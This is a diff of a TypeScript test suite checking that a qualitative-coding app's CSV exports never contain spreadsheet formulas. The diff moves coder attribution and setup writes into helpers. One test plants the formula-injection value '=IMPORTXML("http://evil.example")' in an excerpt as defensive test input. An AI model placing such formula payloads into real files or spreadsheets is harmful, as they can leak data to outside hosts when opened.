@@ -17,6 +17,7 @@ import { writeCodingExport } from '../../../electron/services/exports/coding-exp
 import { writeExportFile } from '../../../electron/services/exports/safe-write';
 import { ProjectStore } from '../../../electron/services/store/project-store';
 import { fromCodebookCsv } from '../../../shared/coding/codebook-csv';
+import { asCoder, setupWrites } from '../../helpers/coder';
 import { createCodingProject } from '../../helpers/coding-project';
 import { useTempDir } from '../../helpers/temp';
 
@@ -126,9 +127,10 @@ describe('no exported cell is a formula', () => {
     const { svc, store, dir, excerpts } = openProject();
     const codes = HOSTILE.map((name, i) => svc.createCode({ name: `${name} ${i}`, kind: 'context' }));
     svc.createCmoc({ label: '=1+1', statement: HOSTILE[0]!, codes: codes.map((c) => ({ codeId: c.id, role: 'context' })) });
-    svc.addCoding(excerpts.trust!, codes[1]!.id, '@Reviewer');
+    asCoder(store, '@Reviewer');
+    svc.addCoding(excerpts.trust!, codes[1]!.id);
     // A quote from a document that begins with a formula sign.
-    store.db.prepare('UPDATE excerpts SET quote = ? WHERE id = ?').run('=IMPORTXML("http://evil.example")', excerpts.reach!);
+    setupWrites(store, () => store.db.prepare('UPDATE excerpts SET quote = ? WHERE id = ?').run('=IMPORTXML("http://evil.example")', excerpts.reach!));
 
     const cmocCsv = await writeCodingExport(svc, 'cmocs', 'csv', path.join(dir, 'cmocs.csv'), 'test');
     const cmocRows = Papa.parse<string[]>(fs.readFileSync(cmocCsv.path, 'utf8').replace(/^\uFEFF/, '')).data;
